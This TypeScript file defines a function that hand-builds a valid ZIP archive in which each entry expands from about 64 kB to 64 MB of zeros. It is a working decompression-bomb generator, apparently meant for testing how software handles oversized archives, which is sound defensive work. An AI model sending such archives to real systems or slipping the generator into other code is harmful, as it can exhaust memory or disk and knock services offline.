import { gzipSync } from 'node:zlib'

/** A ZIP archive of that many files of 64 MB of zeros: some 64 kB each when packed, whole and well formed. */
export function zipBomb(names: readonly string[]): Buffer {
  const size = 64 * 1024 * 1024
  const gzip = gzipSync(Buffer.alloc(size), { level: 9 })
  // A gzip member is a deflate stream between a header of 10 bytes and its CRC-32 and size (RFC 1952 §2.3).
  const packed = gzip.subarray(10, -8)
  const crc = gzip.readUInt32LE(gzip.length - 8)
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let at = 0
  for (const name of names) {
    const path = Buffer.from(name)
    // Version, flags, method, time, date, CRC, sizes, lengths of the name and of the extra field (APPNOTE 4.3.7, 4.3.12).
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(crc, 10)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(size, 18)
    facts.writeUInt16LE(path.length, 22)
    const where = Buffer.alloc(14)
    where.writeUInt32LE(at, 10)
    locals.push(Buffer.from('PK\x03\x04'), facts, path, packed)
    central.push(Buffer.from('PK\x01\x02\x14\x00', 'latin1'), facts, where, path)
    at += 30 + path.length + packed.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(names.length, 8)
  end.writeUInt16LE(names.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...locals, directory, end])
}
